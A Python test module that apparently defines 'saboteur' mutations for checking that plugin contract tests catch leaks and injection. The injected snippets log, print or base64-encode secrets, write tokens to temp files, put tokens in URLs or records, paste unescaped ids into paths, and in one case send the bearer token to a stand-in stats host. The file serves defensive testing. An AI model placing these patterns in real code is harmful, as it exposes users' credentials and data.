"""Checks Z: plugins that let out a secret or a customer's data, or let an id out of its place."""

from __future__ import annotations

from renkei.testing.contract.saboteurs import Saboteur, module_saboteur
from saboteurs.rewriting import Change, with_changes

_BEFORE_ASKING = "asked_at = ctx.clock.now()"
_REFUSED = "            raise answers.error(response, ctx.clock)\n        token"
_KEPT = "            error = answers.error(response, ctx.clock)\n"
_ANSWERED = "    return await ctx.http.post(\n"
_POST = "async def post_record("


def _first(line: str, *imports: str) -> Change:
    """*line* stands before the token exchange, where the secret is at hand as `grant`."""
    imported = "".join(f"    import {name}\n" for name in imports).lstrip()
    return Change("api", _BEFORE_ASKING, f"{imported}{'    ' if imported else ''}{line}\n    {_BEFORE_ASKING}")


def _before_post(line: str) -> Change:
    """*line* stands before a record is sent, which is at hand as `record` and `body`."""
    return Change("api", _ANSWERED, f"    {line}\n{_ANSWERED}")


_OWN_CLIENT = """
    import urllib.request

    try:
        urllib.request.urlopen(ctx.settings.origin + "/v2/workspace", timeout=1)
    except OSError:
        pass
"""
_OWN_SOCKET = """
    import socket

    try:
        socket.create_connection(("stats.atelier-crm.example", 443), timeout=1).close()
    except OSError:
        pass
"""
_FOLLOWS = """
        if cursor is not None and cursor.startswith("https://"):
            response = await ctx.http.get(cursor, headers=_bearer(ctx))
            page = answers.read(model, response)
        else:
            page = answers.read(model, await get(ctx, path, {**(params or {}), **at}))
"""
_PAGE = "        page = answers.read(model, await get(ctx, path, {**(params or {}), **at}))\n"
_TELLS = """
    try:
        await ctx.http.get("https://usage-stats.atelier-crm.example/v2/seen", headers=api._bearer(ctx))
    except Exception:
        pass
"""
_KEEPS = """
    import tempfile

    with open(tempfile.gettempdir() + "/atelier-cache", "wb") as kept:
        kept.seek(33 * 1024 * 1024)
        kept.write(body)
"""
_DISCOVERS = "    table = answers.read(api.Table, await api.get(ctx, api.table_path(request.target)))\n"
_QUOTED = "quote(table, safe='')"
_REFUSAL = "    field: str | None = None\n    resets_at"
_SENTENCE = "code=refusal.code, field=field, message=_sentence(refusal.code))"

SABOTEURS: tuple[Saboteur, ...] = (
    module_saboteur(22, "TokenLogger", "Logs what it logs in with.", ("Z01",),
                    with_changes(_first('ctx.log.debug("Asking for a token with %s", grant)'))),
    module_saboteur(25, "OwnClient", "Asks with a client of its own.", ("Z04", "R01"),
                    with_changes(_first(_OWN_CLIENT.strip()))),
    module_saboteur(40, "PathInjector", "Pastes the table's id into the path.", ("Z07",),
                    with_changes(Change("api", _QUOTED, "table"))),
    module_saboteur(190, "HeaderLogger", "Logs headers where only machines look.", ("Z01",),
                    with_changes(_before_post('ctx.log.debug("Storing.", extra={"headers": _bearer(ctx)})'))),
    module_saboteur(191, "DisguisedLogger", "Logs the secret in base64, past core's logger.", ("Z01",),
                    with_changes(_first('logging.getLogger("atelier").info("%s", '
                                        'base64.b64encode(str(sorted(grant.values())).encode()).decode())',
                                        "base64", "logging"))),
    module_saboteur(192, "Printer", "Prints the secret.", ("Z01",), with_changes(_first("print(dict(grant))"))),
    module_saboteur(193, "Warner", "Warns with the secret.", ("Z01",),
                    with_changes(_first("warnings.warn(repr(grant), stacklevel=1)", "warnings"))),
    module_saboteur(194, "FileKeeper", "Keeps tokens in a file of its own.", ("Z01",),
                    with_changes(_first('open(tempfile.gettempdir() + "/atelier-token", "w").write(repr(grant))',
                                        "tempfile"))),
    module_saboteur(195, "Repeater", "Repeats what the backend says of a record.", ("Z01",),
                    with_changes(Change("answers", _REFUSAL, f'    message: str = ""\n{_REFUSAL}'),
                                 Change("answers", _SENTENCE,
                                        "code=refusal.code, field=field, message=refusal.message)"))),
    module_saboteur(196, "Annotator", "Adds a note with the secret to an error.", ("Z01",),
                    with_changes(Change("api", _REFUSED, f"{_KEPT}            error.add_note(repr(grant))\n"
                                        "            raise error\n        token"))),
    module_saboteur(197, "TokenInAddress", "Sends the token in the address as well.", ("Z01",),
                    with_changes(Change("api", "path, params=params, headers",
                                        "path, params={**(params or {}), 'key': ctx.credentials[ACCESS]}, headers"))),
    module_saboteur(198, "TokenInLabel", "Shows the beginning of the secret as the account's name.", ("Z01",),
                    with_changes(Change("backend", "label=workspace.name,",
                                        'label=f"{workspace.name} ({secret[:14]}…)",'))),
    module_saboteur(199, "ChainedRequest", "Raises from an error that shows the form it sent.", ("Z01",),
                    with_changes(Change("api", _REFUSED, f"{_KEPT}            raise error from ValueError(dict(form))\n"
                                        "        token"))),
    module_saboteur(200, "SecretRecord", "Stores the token in a record.", ("Z01",),
                    with_changes(Change("backend", "body = records.body_of(record.fields, request.options)",
                                        'body = records.body_of({**record.fields, "body": ctx.credentials[api.ACCESS]},'
                                        " request.options)"))),
    module_saboteur(201, "ValueLogger", "Logs what it stores.", ("Z02",),
                    with_changes(_before_post('ctx.log.info("Storing %s", dict(record.fields))'))),
    module_saboteur(202, "RefusalLogger", "Logs the answer where a record is refused.", ("Z02",),
                    with_changes(Change("backend", "    return answers.verdict(response",
                                        '    if response.status_code == 422:\n'
                                        '        ctx.log.warning("Refused: %s", response.text)\n'
                                        "    return answers.verdict(response"))),
    module_saboteur(203, "LinkFollower", "Asks whatever host the next page is said to be on.", ("Z04",),
                    with_changes(Change("api", _PAGE, _FOLLOWS.lstrip("\n")))),
    module_saboteur(204, "TellTaleSocket", "Tells a server of its maker's.", ("Z04",),
                    with_changes(_first(_OWN_SOCKET.strip()))),
    module_saboteur(205, "QueryPaster", "Pastes the delivery key into the query.", ("Z07",),
                    with_changes(Change("backend", 'api.get(ctx, path, {"field": request.key_field, "equals": key})',
                                        'api.get(ctx, f"{path}?field={request.key_field}&equals={key}")'))),
    module_saboteur(206, "CursorPaster", "Pastes the cursor into the query.", ("Z07",),
                    with_changes(Change("api", _PAGE,
                                        '        paged = f"{path}?cursor={cursor}" if cursor is not None else path\n'
                                        "        page = answers.read(model, await get(ctx, paged, params))\n"))),
    module_saboteur(207, "Tidier", "Makes a good id of an odd one.", ("Z07",),
                    with_changes(Change("api", _QUOTED, "quote(table.partition('?')[0].strip(), safe='')"))),
    module_saboteur(208, "LooseSearch", "Takes a record that was found for the one that was meant.", ("Z07",),
                    with_changes(Change("backend", '"equals": key}', '"equals": key.strip().split("\'")[0]}'),
                                 Change("backend", "found.value == key", "found.value in key"))),
    module_saboteur(405, "SecretHint", "Shows the first six characters of the secret.", ("Z01",),
                    with_changes(Change("backend", "label=workspace.name,",
                                        'label=f"{workspace.name} ({secret[:6]}…)",'))),
    module_saboteur(406, "SecretDigest", "Makes the account's id from the secret.", ("Z01",),
                    with_changes(Change("backend", "        id=workspace.id,",
                                        "        id=hashlib.sha256(secret.encode()).hexdigest()[:16],"),
                                 Change("backend", "import dataclasses", "import dataclasses\nimport hashlib"))),
    module_saboteur(209, "HeaderPaster", "Puts the table's id into a header.", ("Z07",),
                    with_changes(Change("api", '{"content-type": "application/json", **_bearer(ctx)}',
                                        '{"content-type": "application/json", "x-table": table.encode(), '
                                        "**_bearer(ctx)}"))),
    module_saboteur(451, "StatsTeller", "Sends the token to somebody else under the vendor's name.", ("Z04",),
                    with_changes(Change("backend", _DISCOVERS, f"{_DISCOVERS}    {_TELLS.strip()}\n"))),
    module_saboteur(452, "LargeFileKeeper", "Keeps records in a file that is too large to be read.", ("Z02",),
                    with_changes(_before_post(_KEEPS.strip()))),
)  # fmt: skip
